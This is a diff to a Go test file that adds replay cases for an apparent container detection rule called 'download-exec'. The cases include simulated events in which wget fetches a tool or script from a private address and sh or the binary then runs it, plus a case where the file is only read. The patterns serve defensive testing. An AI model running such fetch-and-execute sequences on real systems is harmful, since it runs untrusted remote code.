@@ -88,6 +88,14 @@ func replayCases() []replayCase {
 			execEv("/usr/bin/wget", []string{"wget", "http://10.0.0.5/tool"}, ctr, cwd("/tmp")),
 			execEv("/tmp/tool", []string{"./tool"}, ctr, at(30*time.Second), cwd("/tmp")),
 		}, "download-exec", nil},
+		{"no download-exec: downloaded file read, not run", []*api.Event{
+			execEv("/usr/bin/wget", []string{"wget", "http://10.0.0.5/report.txt"}, ctr, cwd("/tmp")),
+			execEv("/bin/cat", []string{"cat", "report.txt"}, ctr, at(time.Second), cwd("/tmp")),
+		}, "", []string{"download-exec"}},
+		{"download-exec: script run by a shell", []*api.Event{
+			execEv("/usr/bin/wget", []string{"wget", "http://10.0.0.5/install.sh"}, ctr, cwd("/tmp")),
+			execEv("/bin/sh", []string{"sh", "install.sh"}, ctr, at(time.Second), cwd("/tmp")),
+		}, "download-exec", nil},
 		{"no download-exec: other container", []*api.Event{
 			execEv("/usr/bin/wget", []string{"wget", "-O", "/tmp/tool", "http://10.0.0.5/tool"}, ctr),
 			execEv("/tmp/tool", []string{"/tmp/tool"}, inContainer("other"), at(time.Second)),
